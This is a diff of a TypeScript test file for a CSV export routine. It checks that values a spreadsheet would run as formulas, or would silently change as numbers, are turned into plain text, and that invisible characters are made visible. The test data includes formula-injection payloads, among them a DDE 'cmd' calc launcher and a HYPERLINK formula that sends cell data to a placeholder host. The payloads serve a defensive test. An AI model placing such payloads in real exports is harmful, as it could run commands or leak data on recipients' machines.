@@ -1,5 +1,6 @@
 import fc from "fast-check";
 import t from "tap";
+import { visible } from "../../src/domain/visible.ts";
 import { type Column, csvHead, csvRow } from "../../src/audit/csv.ts";
 import { holds } from "../support/holds.ts";
 
@@ -42,13 +43,20 @@ function fieldsOf(line: string): string[] {
 const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"];
 const PASSED_OVER = ["", " ", "\u00a0", "\u3000", "\ufeff", "\t ", "\0"];
 
+/** Whether a spreadsheet may run a field. */
+function runs(field: string): boolean {
+  return STARTS.some((start) => field.trimStart().startsWith(start) || field.startsWith(start));
+}
+
 t.test("what a spreadsheet would run is made a text", async (t) => {
   for (const blank of PASSED_OVER) {
     for (const start of STARTS) {
       for (const rest of ["", "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"y")', "1,=2", "1\r\n=2"]) {
         const text = blank + start + rest;
+        const shown = visible(text);
         const [field, next, ...more] = fieldsOf(csvRow(TWO, [text, "housing"]));
-        t.equal(field, `'${text}`, JSON.stringify(text));
+        t.equal(field, runs(shown) ? `'${shown}` : shown, JSON.stringify(text));
+        t.notOk(runs(field ?? ""), JSON.stringify(text));
         t.same([next, ...more], ["housing"], "and nothing of it gets into the next field");
       }
     }
@@ -62,11 +70,15 @@ t.test("numbers and plain texts stay as they are", async (t) => {
     7700,
     0.25,
     -12.5,
+    1_790_000_000_123,
     true,
     "-3",
+    "12345678901",
+    "0.25",
     "housing",
     "a=b",
     "2026-11-23T09:00:00.000Z",
+    "11320723MB0X12345A",
     " text",
     "",
   ]) {
@@ -74,12 +86,37 @@ t.test("numbers and plain texts stay as they are", async (t) => {
   }
   for (const nothing of [null, undefined]) t.equal(csvRow(ANY, nothing), "\r\n");
   // No number as a whole, however it begins.
-  for (const text of ["-1-1", "-1\n", "--1", "-1e9", "-"]) t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`]);
+  for (const text of ["-1-1", "--1", "-1e9", "-"]) t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`]);
+});
+
+t.test("digits that a spreadsheet would change are made a text", async (t) => {
+  for (const text of [
+    "113207230140123456",
+    "320723198806140001",
+    "123456789012",
+    "007",
+    "0012.50",
+    "1E10",
+    "1.5e+300",
+    "9132E5",
+    "-113207230140123456",
+  ]) {
+    t.same(fieldsOf(csvRow(ANY, text)), [`'${text}`], text);
+  }
+});
+
+t.test("what is not seen is shown by its code point", async (t) => {
+  t.same(fieldsOf(csvRow(ANY, "民\u200b政\ufe0f\u3164局\r\n")), [
+    "民〔U+200B〕政〔U+FE0F〕〔U+3164〕局〔U+000D〕〔U+000A〕",
+  ]);
 });
 
 t.test("whatever a field holds, the line has its columns, and none begins a formula", async (t) => {
   const text = fc.string({
-    unit: fc.oneof(fc.constantFrom(...STARTS, '"', ",", "'", " ", "1"), fc.string({ unit: "grapheme", maxLength: 1 })),
+    unit: fc.oneof(
+      fc.constantFrom(...STARTS, '"', ",", "'", " ", "1", "0", "e", "."),
+      fc.string({ unit: "grapheme", maxLength: 1 }),
+    ),
   });
   await holds(
     t,
@@ -88,8 +125,8 @@ t.test("whatever a field holds, the line has its columns, and none begins a form
       if (fields.length !== 2) return false;
       return [one, two].every((asked, n) => {
         const field = fields[n] ?? "";
-        const runs = STARTS.some((start) => field.trimStart().startsWith(start) || field.startsWith(start));
-        return (field === asked || field === `'${asked}`) && (!runs || /^-\d+(\.\d+)?$/.test(field));
+        const shown = visible(asked);
+        return (field === shown || field === `'${shown}`) && (!runs(field) || /^-\d+(\.\d+)?$/.test(field));
       });
     }),
     { numRuns: 2_000 },
